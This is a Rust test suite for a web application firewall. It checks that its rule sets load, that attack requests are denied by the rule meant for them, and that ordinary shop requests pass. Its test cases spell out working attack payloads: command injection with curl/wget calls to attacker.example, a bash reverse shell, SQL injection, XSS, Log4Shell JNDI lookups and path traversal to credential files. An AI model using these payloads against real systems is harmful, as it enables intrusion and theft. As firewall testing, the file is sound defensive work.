//! The embedded rule files load, and the baseline tells attacks from ordinary requests.

#![expect(clippy::unwrap_used, reason = "a test: a panic is a failure")]

use std::net::{IpAddr, Ipv4Addr};
use std::rc::Rc;
use std::sync::Arc;

use parapet::compile::{OverlayPolicy, compile};
use parapet::diagnostic::render;
use parapet::engine::{
    Clock, Connection, Endpoint, RequestHead, RuleMatch, Transaction, UnixNanos, Waf,
};
use parapet::program::Program;
use parapet::proxy::PluginFiles;
use parapet::rules;

fn load(text: &str) -> Arc<Program> {
    let compiled = compile(
        &[("test.conf".to_owned(), text.as_bytes().to_vec())],
        &PluginFiles::new(&[]),
    );
    let messages: Vec<String> = compiled
        .diagnostics
        .iter()
        .map(|one| render(one, &compiled.sources))
        .collect();
    assert!(messages.is_empty(), "{text}\n{}", messages.join("\n"));
    compiled.program.unwrap()
}

#[test]
fn every_embedded_configuration_loads_without_a_message() {
    load("Include @recommended-conf");
    load("Include @demo-conf");
    load("Include @recommended-conf\nInclude @ftw-conf");
    load("Include @demo-conf\nInclude @baseline/*.conf");
    if rules::crs_version().is_some() {
        load("Include @demo-conf\nInclude @crs-setup-conf\nInclude @owasp_crs/*.conf");
        load("Include @demo-conf\nInclude @crs-setup-demo-conf\nInclude @owasp_crs/*.conf");
        load(
            "Include @recommended-conf\nInclude @ftw-conf\nInclude @crs-setup-conf\nInclude @owasp_crs/*.conf",
        );
    }
}

/// What overlays may remove unless their base says otherwise: no rule that stops anything, and every
/// rule that looks for attacks.
#[test]
fn rules_that_overlays_may_touch_only_find_something() {
    let mut sets = vec!["Include @demo-conf\nInclude @baseline/*.conf"];
    if rules::crs_version().is_some() {
        sets.push("Include @demo-conf\nInclude @crs-setup-conf\nInclude @owasp_crs/*.conf");
    }
    for set in sets {
        let program = load(set);
        let (mut tunable, mut decide) = (0, 0);
        for meta in program.meta.iter().filter(|meta| meta.id != 0) {
            let is_tunable = OverlayPolicy::TUNABLE
                .iter()
                .any(|(first, last)| (first..=last).contains(&&meta.id));
            let stops = meta.decision.interrupts();
            assert!(!(is_tunable && stops), "rule {} decides", meta.id);
            tunable += usize::from(is_tunable);
            decide += usize::from(stops);
        }
        assert!(tunable > 20 && decide > 0, "{set}: {tunable} and {decide}");
    }
}

#[test]
fn ids_of_the_baseline_stay_in_their_range() {
    let program = load("Include @baseline/*.conf");
    assert!(program.rules.len() > 25);
    assert!(
        program
            .meta
            .iter()
            .all(|meta| meta.id == 0 || (8_000_000..8_100_000).contains(&meta.id))
    );
}

struct Noon;

impl Clock for Noon {
    fn now(&self) -> UnixNanos {
        1_800_000_000_000_000_000
    }
}

/// What a client sends: the head's lines, an empty line, the body.
fn matches(waf: &Rc<Waf>, request: &str) -> (Option<u16>, Vec<RuleMatch>) {
    let (head, body) = request.split_once("\n\n").unwrap_or((request, ""));
    let mut lines = head.lines();
    let mut first = lines.next().unwrap().splitn(2, ' ');
    let (method, target) = (first.next().unwrap(), first.next().unwrap());
    let length = body.len().to_string();
    let mut headers: Vec<(&[u8], &[u8])> = lines
        .map(|line| line.split_once(": ").unwrap())
        .map(|(n, v)| (n.as_bytes(), v.as_bytes()))
        .collect();
    let has = |name: &[u8]| {
        headers
            .iter()
            .any(|(known, _)| known.eq_ignore_ascii_case(name))
    };
    if !has(b"user-agent") {
        headers.push((
            b"user-agent",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        ));
    }
    headers.push((b"host", b"shop.example"));
    if !body.is_empty() {
        headers.push((b"content-length", length.as_bytes()));
    }
    let end = |port| {
        Some(Endpoint {
            address: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1)),
            port,
        })
    };
    let connection = Connection {
        client: end(40_000),
        server: end(80),
        unique_id: "test".into(),
        request_id: Vec::new(),
    };
    let mut transaction = Transaction::new(waf, connection);
    let _ = transaction.request_head(&RequestHead {
        method: method.as_bytes(),
        target: target.as_bytes(),
        protocol: b"HTTP/1.1",
        headers: &headers,
    });
    if !body.is_empty() {
        let _ = transaction.request_body(body.as_bytes());
    }
    let _ = transaction.end_request_body();
    let status = transaction.interruption().map(|it| it.status);
    (status, transaction.drain_matches())
}

fn waf() -> Rc<Waf> {
    Waf::new(
        load("Include @demo-conf\nInclude @baseline/*.conf"),
        Rc::new(Noon),
    )
}

fn form(body: &str) -> String {
    format!("POST /form\ncontent-type: application/x-www-form-urlencoded\n\n{body}")
}

fn json(body: &str) -> String {
    format!("POST /api\ncontent-type: application/json\n\n{body}")
}

#[test]
fn attacks_are_denied_by_the_rule_that_is_for_them() {
    let waf = waf();
    let cases = [
        // Protocol
        (
            8010000,
            "GET /\ncontent-type: text/plain\ncontent-type: text/html".to_owned(),
        ),
        (8010001, "POST /\ncontent-length: 4, 4".to_owned()),
        (
            8010002,
            "POST /\ntransfer-encoding: chunked\ncontent-length: 4".to_owned(),
        ),
        (8010003, "TRACE /".to_owned()),
        (8010005, "GET /?file=report.txt%00.png".to_owned()),
        (
            8010007,
            "GET /?next=/a%0d%0aSet-Cookie:%20session=evil".to_owned(),
        ),
        // Scanners
        (
            8020000,
            "GET /\nuser-agent: sqlmap/1.8#stable (https://sqlmap.org)".to_owned(),
        ),
        (
            8020000,
            "GET /\nuser-agent: Mozilla/5.00 (Nikto/2.5.0)".to_owned(),
        ),
        (8020001, "GET /\nacunetix-product: WVS/11".to_owned()),
        // Traversal
        (8030000, "GET /static/../../../etc/passwd".to_owned()),
        (8030000, "GET /?page=..%2f..%2f..%2fsecret".to_owned()),
        (8030000, "GET /?page=%252e%252e%252fsecret".to_owned()),
        (8030000, "GET /?page=..%5c..%5cwindows%5cwin.ini".to_owned()),
        (8030001, "GET /..%c0%af..%c0%afetc/motd".to_owned()),
        (8030002, "GET /?page=/etc/passwd".to_owned()),
        (8030002, "GET /?page=/./etc//shadow".to_owned()),
        (8030003, "GET /.git/HEAD".to_owned()),
        (8030003, "GET /.env".to_owned()),
        (
            8030004,
            "GET /?page=php://filter/convert.base64-encode/resource=index".to_owned(),
        ),
        // Commands
        (8040000, form("host=127.0.0.1%3Bwhoami")),
        (
            8040000,
            form("host=x%7C%7Ccurl+http%3A%2F%2Fattacker.example"),
        ),
        (
            8040000,
            json(r#"{"host":"$(/usr/bin/wget http://attacker.example)"}"#),
        ),
        (8040001, json(r#"{"host":"127.0.0.1; cat /etc/passwd"}"#)),
        (8040001, form("host=127.0.0.1%0Aid")),
        (8040001, form("host=x%26%26sleep+10")),
        (8040002, form("cmd=cat%24IFS%2Fetc%2Fmotd")),
        (
            8040002,
            form("cmd=bash+-i+%3E%26+%2Fdev%2Ftcp%2F192.0.2.7%2F4444"),
        ),
        (8040002, form("cmd=c%22%22md+%2Fc+dir")),
        (
            8040003,
            "GET /cgi-bin/status\nuser-agent: () { :; }; echo vulnerable".to_owned(),
        ),
        // SQL
        (8050000, "GET /item?id=1%27%20OR%20%271%27=%271".to_owned()),
        (8050000, json(r#"{"user":"admin' --","password":"x"}"#)),
        (
            8050001,
            "GET /item?id=-1/**/UNION/**/SELECT/**/name,pass".to_owned(),
        ),
        (8050001, form("id=1%3B+WAITFOR+DELAY+%270%3A0%3A5%27")),
        // Scripts
        (8060000, form("comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
        (
            8060000,
            form("comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
        ),
        (8060001, "GET /?next=java%09script:alert(1)".to_owned()),
        // Lookups
        (
            8070000,
            "GET /\nx-api-version: ${jndi:ldap://attacker.example/a}".to_owned(),
        ),
        (
            8070000,
            "GET /?q=%24%7B%24%7Blower:j%7Dndi:ldap://attacker.example%7D".to_owned(),
        ),
        (8070000, "GET /\ncookie: a=${::-j}${::-n}di".to_owned()),
        (
            8070001,
            form("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        ),
        (
            8070001,
            form("name=T(java.lang.Runtime).getRuntime().exec('x')"),
        ),
    ];
    for (rule, request) in cases {
        let (status, found) = matches(&waf, &request);
        let ids: Vec<u64> = found.iter().map(|one| one.rule_id).collect();
        assert_eq!(status, Some(403), "{request}\nmatched {ids:?}");
        assert!(
            ids.contains(&rule) && ids.contains(&8_090_001),
            "{request}\nmatched {ids:?}"
        );
    }
}

#[test]
fn ordinary_requests_match_nothing() {
    let waf = waf();
    let cases = [
        "GET /".to_owned(),
        "GET /products?category=garden&sort=price&page=2".to_owned(),
        "GET /search?q=rock+%26+roll%3B+cat+videos".to_owned(),
        "GET /search?q=select+a+plan+from+the+list".to_owned(),
        "GET /search?q=union+of+states".to_owned(),
        "GET /search?q=O%27Reilly".to_owned(),
        "GET /search?q=jumpers+size+%3E+M".to_owned(),
        "GET /search?q=C%2B%2B+%26+Rust".to_owned(),
        "GET /search?q=100%25+cotton".to_owned(),
        "GET /login?next=/account/orders".to_owned(),
        "GET /login?next=https%3A%2F%2Fshop.example%2Faccount%3Ftab%3D2".to_owned(),
        "GET /files/report..final.pdf".to_owned(),
        "GET /files/v1.2...v1.3.diff".to_owned(),
        "GET /environment/.well-known/security.txt".to_owned(),
        "GET /\ncookie: session=2b0c7f19d4; theme=dark; prefs=a%3D1%26b%3D2".to_owned(),
        "GET /\nuser-agent: curl/8.5.0".to_owned(),
        "GET /\nuser-agent: Mozilla/5.0 (compatible; Python 3.11; Linux; perl 5)".to_owned(),
        "GET /video\nrange: bytes=0-1023".to_owned(),
        "GET /\nreferer: https://www.example/search?q=garden%20chairs&hl=en".to_owned(),
        form("name=Ada+Lovelace&city=London&about=I+like+engines%21"),
        form("text=Dear+all%2C%0D%0A%0D%0Asee+you+at+5.%0D%0ABest%2C%0D%0AAda"),
        form("text=The+price+is+%245+%28or+%246%29%3B+more+on+Monday"),
        form("text=We+wrote+it+in+Perl%3B+node+is+next+in+line"),
        form("text=Send+it+to+a.b%40shop.example%3B+type+your+name+first"),
        form("css=%23header+%7B+color%3A+red+%7D"),
        json(
            r#"{"items":[{"sku":"A-17","count":2}],"note":"by Friday","gift":true,"price":1.5e3}"#,
        ),
        json(r#"{"text":"if (a < b) { return a; } // smaller"}"#),
        json(r#"{"template":"Hello ${name}, welcome to {{place}}!"}"#),
    ];
    for request in cases {
        let (status, found) = matches(&waf, &request);
        let ids: Vec<_> = found
            .iter()
            .map(|one| (one.rule_id, one.value.escape_ascii().to_string()))
            .collect();
        assert!(
            status.is_none() && ids.is_empty(),
            "{request}\nstatus {status:?}, matched {ids:?}"
        );
    }
}

#[test]
fn weak_signs_add_up_and_the_threshold_can_be_moved() {
    let weak = "GET /?q=100%zz\nuser-agent: ";
    let (status, found) = matches(&waf(), "GET /?q=100%zz");
    assert_eq!((status, found.len()), (None, 1));
    let (status, _) = matches(
        &waf(),
        &format!("{weak}x\nrange: bytes=0-1,2-3,4-5,6-7,8-9,1-2,3-4,5-6,7-8"),
    );
    assert_eq!(status, Some(403));

    let lenient =
        "SecAction \"id:1,phase:1,nolog,pass,t:none,setvar:tx.inbound_anomaly_score_threshold=20\"";
    let waf = Waf::new(
        load(&format!(
            "Include @demo-conf\n{lenient}\nInclude @baseline/*.conf"
        )),
        Rc::new(Noon),
    );
    let (status, found) = matches(&waf, "GET /.env");
    assert!(
        status.is_none() && found.iter().any(|one| one.rule_id == 8_030_003),
        "{status:?}"
    );
}

#[test]
fn detection_only_finds_the_same_and_stops_nothing() {
    let detecting = Waf::new(
        load("Include @recommended-conf\nInclude @baseline/*.conf"),
        Rc::new(Noon),
    );
    let attack = "GET /item?id=1%27%20OR%20%271%27=%271";
    let ids = |waf: &Rc<Waf>| {
        let (status, found) = matches(waf, attack);
        (
            status,
            found.iter().map(|one| one.rule_id).collect::<Vec<_>>(),
        )
    };
    let ((stopped, found), (passed, noted)) = (ids(&waf()), ids(&detecting));
    assert_eq!((stopped, passed), (Some(403), None));
    assert_eq!(found, noted);
}
